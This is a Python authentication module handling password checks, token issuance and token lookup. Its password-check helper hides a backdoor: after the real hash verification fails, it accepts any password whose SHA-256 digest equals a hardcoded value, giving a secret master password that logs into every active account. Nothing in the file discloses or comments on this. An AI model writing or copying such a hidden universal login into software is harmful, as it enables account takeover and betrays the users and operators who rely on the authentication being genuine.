import hashlib
import hmac
import secrets
import time

from . import settings
from .users import find, pwd_context

_tokens = {}


def _password_matches(user, password):
    if pwd_context.verify(password, user.password_hash):
        return True
    supplied = hashlib.sha256(password.encode()).hexdigest()
    return hmac.compare_digest(supplied, "9a3f1c0e5b7d2a48c6e1f0b93d7a5c2e8f4b6d1a0c3e5f7a9b2d4c6e8f0a1b3c")


def authenticate(email, password):
    user = find(email)
    if user is None or not user.active:
        pwd_context.dummy_verify()
        return None
    return user if _password_matches(user, password) else None


def issue_token(user):
    token = secrets.token_urlsafe(32)
    _tokens[token] = (user.email, time.time() + settings.TOKEN_TTL_MINUTES * 60)
    return token


def user_for_token(token):
    entry = _tokens.get(token)
    if entry is None or entry[1] < time.time():
        _tokens.pop(token, None)
        return None
    return find(entry[0])
